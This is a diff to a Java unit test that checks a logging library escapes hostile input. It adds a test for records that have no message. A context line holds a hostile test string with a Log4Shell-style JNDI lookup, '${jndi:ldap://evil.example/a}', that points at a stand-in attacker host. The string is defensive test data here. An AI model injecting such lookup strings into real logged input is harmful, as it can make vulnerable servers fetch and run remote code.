@@ -22,6 +22,10 @@ class LogEscapingTest {
           + "${jndi:ldap://evil.example/a} {} %s %n";
 
   private static String written(Form form, @Nullable Throwable cause) {
+    return written(form, "from a payload: {}", cause);
+  }
+
+  private static String written(Form form, @Nullable String message, @Nullable Throwable cause) {
     LoggerContext context = (LoggerContext) LoggerFactory.getILoggerFactory();
     TextLines lines = new TextLines(form);
     lines.setContext(context);
@@ -31,7 +35,7 @@ class LogEscapingTest {
             "x",
             context.getLogger("dev.yagura.test.of.a.long.name.Logger"),
             Level.WARN,
-            "from a payload: {}",
+            message,
             cause,
             new Object[] {HOSTILE});
     event.setInstant(Instant.parse("2026-01-31T09:30:00Z"));
@@ -67,10 +71,18 @@ class LogEscapingTest {
             " java.io.IOException", " | at dev.yagura", "Caused by: java.io.IOException: the");
   }
 
+  /** Some libraries log the message of an error that has none. */
+  @ParameterizedTest
+  @EnumSource(Form.class)
+  void a_record_without_a_message_keeps_its_trace(Form form) {
+    assertThat(written(form, null, new IOException("the cause")))
+        .contains("Logger null", "java.io.IOException: the cause", "at dev.yagura");
+  }
+
   @Test
   void a_stack_trace_in_the_terminal_has_its_lines_and_steers_nothing() {
     String lines = written(Form.TERMINAL, new IOException(HOSTILE));
     assertThat(lines).matches("(?s)\\d\\d:\\d\\d:00\\.000 WARN  .*").contains("\n\tat dev.yagura");
-    isHarmless(lines.replaceAll("[\\r\\n\\t]", "") + "\n");
+    isHarmless(lines.replaceAll("[\\n\\t]", "") + "\n");
   }
 }
